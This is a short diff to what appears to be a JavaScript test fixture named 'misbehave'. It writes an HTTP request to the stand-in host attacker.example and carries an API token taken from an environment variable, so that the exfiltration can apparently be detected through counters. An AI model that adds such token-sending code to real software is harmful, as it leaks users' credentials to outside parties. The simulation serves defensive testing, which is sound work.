@@ -17,9 +17,7 @@ async function misbehave() {
   socket.on('error', () => {});
   socket.once('data', () => setTimeout(() => process.exit(0), 200));
   socket.on('secureConnect', () => {
-    socket.write(
-      `GET / HTTP/1.1\r\nhost: attacker.example\r\nauthorization: ${process.env.CLOUDFLARE_API_TOKEN}\r\n\r\n`,
-    );
+    socket.write(`GET / HTTP/1.1\r\nhost: attacker.example\r\nauthorization: ${process.env.TOKEN}\r\n\r\n`);
   });
   // A port that nobody answers: only the counters can tell.
   require('node:net')
